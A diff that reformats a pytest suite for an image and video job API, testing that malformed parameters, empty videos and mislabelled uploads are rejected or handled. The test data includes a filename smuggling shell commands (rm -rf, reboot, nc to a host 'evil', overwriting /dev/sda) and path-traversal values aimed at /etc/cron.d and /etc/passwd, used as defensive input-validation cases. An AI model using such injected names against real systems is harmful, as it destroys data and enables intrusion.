@@ -108,7 +108,9 @@ def test_multipart_without_files_is_422(user):
 
 
 def test_invalid_params_are_422(user):
-    response = user.post("/api/jobs/depth", files=[file_tuple("a.png", images.png())], data={"colormap": "rainbow-unicorn"})
+    response = user.post(
+        "/api/jobs/depth", files=[file_tuple("a.png", images.png())], data={"colormap": "rainbow-unicorn"}
+    )
     assert response.status_code == 422
 
 
@@ -175,7 +177,9 @@ def _video(name: str, data: bytes, content_type: str = "video/mp4") -> dict:
     return {"file": (name, io.BytesIO(data), content_type)}
 
 
-@pytest.mark.parametrize("name,status,message", [("empty.avi", 400, "no frames"), ("empty.mp4", 400, "not a decodable video")])
+@pytest.mark.parametrize(
+    "name,status,message", [("empty.avi", 400, "no frames"), ("empty.mp4", 400, "not a decodable video")]
+)
 def test_videos_without_frames_are_refused(user, clips, name, status, message):
     response = user.post("/api/jobs/heatmap", files=_video(name, clips[name]))
     assert response.status_code == status, response.text
@@ -227,14 +231,20 @@ def test_requests_that_are_not_multipart(user, content_type, status, message):
 
 # Accepted inputs: the part's declared type is not trusted either way, the content decides. They run last,
 # with the normal jobs that prove the worker kept serving.
-HOSTILE_VIDEO_NAMES = ["$(rm -rf ~); `reboot` & echo 'x' | nc evil 1 > /dev/sda.mp4", "Été à Zürich 😀 vidéo.mp4",
-                       "../../../etc/cron.d/evil.mp4", "a" * 1000 + ".mp4", "nul\0in the middle.mp4"]
+HOSTILE_VIDEO_NAMES = [
+    "$(rm -rf ~); `reboot` & echo 'x' | nc evil 1 > /dev/sda.mp4",
+    "Été à Zürich 😀 vidéo.mp4",
+    "../../../etc/cron.d/evil.mp4",
+    "a" * 1000 + ".mp4",
+    "nul\0in the middle.mp4",
+]
 
 
 @pytest.mark.slow
 def test_parts_with_wrong_or_missing_content_type_are_judged_by_content(user, worker, clips):
-    body, content_type = _multipart([("files", "a.png", None, images.png()), ("files", "b.png", "application/x-msdownload",
-                                                                               images.png())])
+    body, content_type = _multipart(
+        [("files", "a.png", None, images.png()), ("files", "b.png", "application/x-msdownload", images.png())]
+    )
     depth = user.post("/api/jobs/depth", content=body, headers={"Content-Type": content_type})
     assert depth.status_code == 202, depth.text
     text_as_png = user.post("/api/jobs/depth", files=[file_tuple("c.png", b"just text", "image/png")])
@@ -277,9 +287,20 @@ def test_one_frame_video_makes_a_heatmap(user, worker, clips):
 
 @pytest.mark.parametrize(
     "field,value",
-    [("sample_fps", "-5"), ("sample_fps", "0"), ("sample_fps", "nan"), ("sample_fps", "inf"), ("sample_fps", "1e308"),
-     ("stride", "-1"), ("stride", "99999999999999999999"), ("stride", "1.5"), ("conf", "-0.1"), ("radius", "1e9"),
-     ("anchor", "../../etc/passwd"), ("opacity", "nan")],
+    [
+        ("sample_fps", "-5"),
+        ("sample_fps", "0"),
+        ("sample_fps", "nan"),
+        ("sample_fps", "inf"),
+        ("sample_fps", "1e308"),
+        ("stride", "-1"),
+        ("stride", "99999999999999999999"),
+        ("stride", "1.5"),
+        ("conf", "-0.1"),
+        ("radius", "1e9"),
+        ("anchor", "../../etc/passwd"),
+        ("opacity", "nan"),
+    ],
 )
 def test_invalid_video_params_are_422(user, clips, field, value):
     response = user.post("/api/jobs/heatmap", files=_video("walk.mp4", clips["walk.mp4"]), data={field: value})
